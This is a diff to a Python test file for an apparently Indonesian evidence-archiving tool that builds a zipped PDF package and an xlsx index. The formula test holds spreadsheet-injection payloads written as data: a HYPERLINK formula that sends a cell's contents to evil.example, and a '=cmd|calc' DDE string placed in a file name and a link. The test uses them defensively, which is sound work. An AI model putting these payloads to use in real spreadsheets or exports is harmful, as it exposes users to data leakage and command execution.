@@ -99,24 +99,23 @@ def test_a_change_after_the_review_takes_the_item_month_out_of_accepted_only(sto
     assert archive.read(files_in(archive)[0]) == pdf("v2")
 
 
-def test_the_same_content_is_stored_once_per_id_folder_and_every_row_links_to_it(store):
+def test_the_same_content_is_stored_once_per_id_folder_and_each_row_links_to_it(store):
     for month in (1, 12):
         evidence.attach_file(store, "I-1-1", month, "SK Tim ZI.pdf", pdf("sk"), "rina")
-    evidence.attach_file(store, "I-1-1", 1, "salinan SK.pdf", pdf("sk"), "rina")
     evidence.attach_file(store, "I-2-1", 2, "SK Tim ZI.pdf", pdf("sk"), "rina")
     archive = package(store)
     assert files_in(archive) == [f"{TIM_KERJA}/I-1-1_01-Januari_SK Tim ZI.pdf",
                                  f"{AREA_I}/2. Dokumen Rencana Aksi/I-2-1/I-2-1_02-Februari_SK Tim ZI.pdf"]
     rows = index_rows(archive)
-    assert len(rows) == 4
+    assert len(rows) == 3
     assert {row["Berkas di Paket"].value for row in rows if row["ID"].value == "I-1-1"} == {files_in(archive)[0]}
     assert facts(archive)["Berkas di paket (tanpa duplikat per ID)"] == 2
 
 
 def test_text_in_the_index_is_never_a_formula(store):
-    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"klik").pdf'
+    hostile = '=HYPERLINK("evil.example?d="&A1,"klik").pdf'
     evidence.attach_file(store, "I-1-1", 1, hostile, pdf(), "@rina")
-    evidence.attach_link(store, "I-1-1", 2, "https://example.com/=cmd|'/c calc'!A1", "+budi")
+    evidence.attach_link(store, "I-1-1", 2, "https://example.com/=cmd|calc!A1", "+budi")
     archive = package(store)
     sheet_xml = archive.open("indeks_bukti.xlsx")
     with zipfile.ZipFile(sheet_xml) as book:
